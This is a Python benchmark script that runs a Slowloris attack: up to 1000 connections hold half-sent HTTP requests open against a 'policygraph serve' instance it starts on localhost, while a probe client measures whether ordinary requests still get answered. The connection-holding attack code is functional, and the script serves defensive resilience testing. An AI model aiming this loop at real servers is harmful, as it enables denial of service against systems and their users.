"""Slowloris against a live ``policygraph serve`` on 127.0.0.1: how long are half-sent requests
held, and does an ordinary client still get its answers meanwhile?

``attackers`` connections each send a request head without its closing blank line, then one more
header line every ``trickle`` seconds (so no per-read timeout ends them). Each one waits until the
server closes it, or gives up after ``hold_for`` seconds. Meanwhile one ordinary client asks
``/sparql?query=ASK{}`` once a second on a fresh connection.

``python -m bench.slowloris [--attackers 1000] [--hold-for 30] [--store DIR]`` starts the server
itself (over a small store of data/curated unless ``--store``) and prints the figures as JSON.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import sys
import tempfile
import time
from pathlib import Path

import httpx

from bench.server import ROOT, Server
from bench.timing import percentile

HEAD = b"GET /sparql?query=ASK%7B%7D HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\n"
PROBE_PATH = "/sparql?query=ASK%7B%7D"


async def _attacker(host: str, port: int, hold_for: float, trickle: float) -> float | None:
    """Seconds the server kept this half-sent request open (``hold_for`` if it never closed);
    None when the connection could not even be opened."""
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 10)
    except (OSError, TimeoutError):
        return None
    started = time.monotonic()
    try:
        writer.write(HEAD)
        await writer.drain()
        while (held := time.monotonic() - started) < hold_for:
            try:
                if await asyncio.wait_for(reader.read(4096), min(trickle, hold_for - held)) == b"":
                    return time.monotonic() - started  # closed by the server
                return time.monotonic() - started  # answered (an error page): not held either
            except TimeoutError:
                writer.write(b"X-Slow: 1\r\n")
                await writer.drain()
        return hold_for
    except OSError:
        return time.monotonic() - started
    finally:
        writer.close()


async def _probe(url: str, stop_at: float, results: list[dict]) -> None:
    """One ordinary request a second, each on a new connection (a new visitor)."""
    await asyncio.sleep(1.0)
    while time.monotonic() < stop_at:
        started = time.perf_counter()
        try:
            async with httpx.AsyncClient(timeout=10) as client:
                response = await client.get(url + PROBE_PATH)
            status = response.status_code
        except httpx.HTTPError as error:
            status = type(error).__name__
        results.append({"status": status, "ms": round((time.perf_counter() - started) * 1000)})
        await asyncio.sleep(1.0)


async def attack(url: str, *, attackers: int, hold_for: float, trickle: float = 5.0) -> dict:
    """Run the attack against ``url``; the figures."""
    host, port = url.removeprefix("http://").split(":")
    probes: list[dict] = []
    started = time.monotonic()
    held, _ = await asyncio.gather(
        asyncio.gather(*(_attacker(host, int(port), hold_for, trickle) for _ in range(attackers))),
        _probe(url, started + hold_for, probes),
    )
    opened = [seconds for seconds in held if seconds is not None]
    answered = [p for p in probes if p["status"] == 200]
    return {
        "attackers": attackers,
        "opened": len(opened),
        "held_p50_s": round(percentile(opened, 0.50), 1) if opened else None,
        "held_max_s": round(max(opened), 1) if opened else None,
        "held_to_the_end": sum(1 for seconds in opened if seconds >= hold_for),
        "probes": len(probes),
        "probes_answered": len(answered),
        "probe_max_ms": max((p["ms"] for p in answered), default=None),
        "probe_failures": sorted({str(p["status"]) for p in probes if p["status"] != 200}),
    }


def small_store(folder: Path) -> Path:
    """A store of data/curated: what the server holds does not matter to this benchmark."""
    import pyoxigraph as ox

    store = ox.Store(str(folder / "store"))
    for ttl in sorted((ROOT / "data" / "curated").glob("*.ttl")):
        store.bulk_load(path=str(ttl), format=ox.RdfFormat.TURTLE)
    store.flush()
    del store
    return folder / "store"


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m bench.slowloris", description=__doc__)
    parser.add_argument("--attackers", type=int, default=1000)
    parser.add_argument("--hold-for", type=float, default=30.0, help="seconds before giving up")
    parser.add_argument("--store", type=Path, help="store directory (default: data/curated)")
    args = parser.parse_args(argv)
    with tempfile.TemporaryDirectory() as scratch:
        store = args.store or small_store(Path(scratch))
        with Server(store=store, workers=1, timeout=5.0, log=Path(scratch) / "server.log") as live:
            run = attack(live.url, attackers=args.attackers, hold_for=args.hold_for)
            figures = asyncio.run(run)
    print(json.dumps(figures, indent=2))
    return 0


if __name__ == "__main__":
    sys.exit(main())
